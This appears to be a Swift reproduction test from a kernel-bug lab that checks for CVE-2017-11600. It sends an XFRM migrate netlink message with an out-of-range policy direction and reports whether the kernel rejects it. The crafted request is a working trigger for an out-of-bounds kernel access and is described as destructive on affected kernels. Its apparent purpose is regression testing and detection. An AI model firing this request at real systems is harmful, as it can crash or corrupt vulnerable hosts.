import CNetlink
import Foundation
import Glibc
import Lab
import Netlink

/// CVE-2017-11600: XFRM_MSG_MIGRATE took the policy direction from user space unchecked and
/// used it as an index into the per-direction policy tables (out of bounds: an oops or worse).
/// Since 7bab09631c2a (Linux 4.13) xfrm_migrate() refuses a direction ≥ XFRM_POLICY_MAX with
/// EINVAL. Destructive on an affected kernel. The control, direction out with no policy to
/// migrate, must come back ENOENT (migration is built in and reached the policy lookup).
enum MigrateDirection {
    static func request(namespace: String, direction: UInt8) -> Request {
        var id = xfrm_userpolicy_id()
        id.sel.family = UInt16(AF_INET)
        id.sel.prefixlen_s = 32
        id.sel.prefixlen_d = 32
        withUnsafeMutableBytes(of: &id.sel.saddr) { $0.copyBytes(from: [192, 0, 2, 1]) }
        withUnsafeMutableBytes(of: &id.sel.daddr) { $0.copyBytes(from: [192, 0, 2, 2]) }
        id.dir = direction
        var m = xfrm_user_migrate()
        withUnsafeMutableBytes(of: &m.old_saddr) { $0.copyBytes(from: [192, 0, 2, 1]) }
        withUnsafeMutableBytes(of: &m.old_daddr) { $0.copyBytes(from: [192, 0, 2, 2]) }
        withUnsafeMutableBytes(of: &m.new_saddr) { $0.copyBytes(from: [192, 0, 2, 11]) }
        withUnsafeMutableBytes(of: &m.new_daddr) { $0.copyBytes(from: [192, 0, 2, 12]) }
        m.proto = UInt8(IPPROTO_ESP)
        m.mode = 1  // tunnel
        m.reqid = 1
        m.old_family = UInt16(AF_INET)
        m.new_family = UInt16(AF_INET)
        return Request(type: UInt16(XFRM_MSG_MIGRATE), flags: .modify, headerBytes: Bytes.of(id),
                       attributes: [Attribute(UInt16(XFRMA_MIGRATE.rawValue), bytes: Bytes.of(m))],
                       summary: "ip -n \(namespace) xfrm policy migrate src 192.0.2.1/32 dst 192.0.2.2/32 dir \(direction) tmpl src 192.0.2.1 dst 192.0.2.2 proto esp mode tunnel reqid 1 newsrc 192.0.2.11 newdst 192.0.2.12")
    }

    static let reproduction = Reproduction("migrate-direction") { lab in
        let xfrm = try lab.namespace("lab").xfrmSocket()
        defer { xfrm.close() }
        let ns = try lab.namespace("lab").name
        let control = ask(xfrm, request(namespace: ns, direction: 1))
        guard control.errno == ENOENT else { throw Inconclusive("the control did not reach the policy lookup: \(control)") }
        let bad = ask(xfrm, request(namespace: ns, direction: 3))
        return Observation(bugPresent: bad.errno != EINVAL, evidence: ["\(bad)", "control: \(control)"])
    }
}
